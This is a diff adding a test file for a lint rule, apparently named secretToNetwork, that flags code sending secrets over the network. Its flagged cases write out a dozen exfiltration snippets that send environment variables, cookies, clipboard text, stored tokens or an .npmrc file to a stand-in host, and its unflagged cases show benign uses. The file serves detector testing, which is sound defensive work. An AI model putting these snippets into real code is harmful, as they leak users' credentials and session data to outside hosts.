@@ -1,0 +1,36 @@
+import { describeRule } from '../testing/describe-rule.ts';
+import { secretToNetwork } from './secret-to-network.ts';
+
+describeRule(secretToNetwork, {
+  reports: {
+    'an object rest':
+      "const { a, ...rest } = process.env;\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(rest) });",
+    'a reducer':
+      "const s = Object.entries(process.env).reduce((a, [k, v]) => a + k + v, '');\nfetch('https://x.example/?' + s);",
+    'a closure':
+      "let held;\nfunction take() { held = document.cookie; }\nfunction give() { navigator.sendBeacon('https://x.example', held); }\ntake();\ngive();",
+    'a header': "fetch('https://x.example', { headers: { 'x-trace': document.cookie } });",
+    'a URL object':
+      "const u = new URL('https://x.example');\nu.searchParams.set('c', document.cookie);\nfetch(u);",
+    'an event':
+      "addEventListener('paste', (e) => fetch('https://x.example/' + e.clipboardData.getData('text')));",
+    'a file callback':
+      "const fs = require('fs');\nfs.readFile('/home/a/.npmrc', 'utf8', (err, text) => { require('https').get('https://x.example/?' + text); });",
+    'a link opened': "window.open('https://x.example/?' + localStorage.getItem('t'));",
+    'a list of parts':
+      "const parts = [];\nparts.push(document.cookie);\nnew Image().src = 'https://x.example/' + parts.join('');",
+    axios: "import axios from 'axios';\naxios.post('https://x.example', { env: process.env });",
+    'a socket of node':
+      "const net = require('net');\nconst s = net.connect(80, 'x.example');\ns.write(JSON.stringify(process.env));",
+    'a generator':
+      "function* all() { yield document.cookie; }\nfor (const c of all()) fetch('https://x.example/' + c);",
+    'a link element':
+      "const l = document.createElement('link');\nl.rel = 'prefetch';\nl.href = 'https://x.example/' + document.cookie;",
+  },
+  leaves: {
+    'a secret that stays': 'const c = document.cookie;\nconsole.log(c);',
+    'a comparison': "const ok = document.cookie === 'a';\nfetch('https://x.example/' + ok);",
+    'its length': "fetch('https://x.example/' + document.cookie.length);",
+    'the own server': "fetch('/session', { method: 'POST', body: document.cookie });",
+  },
+});
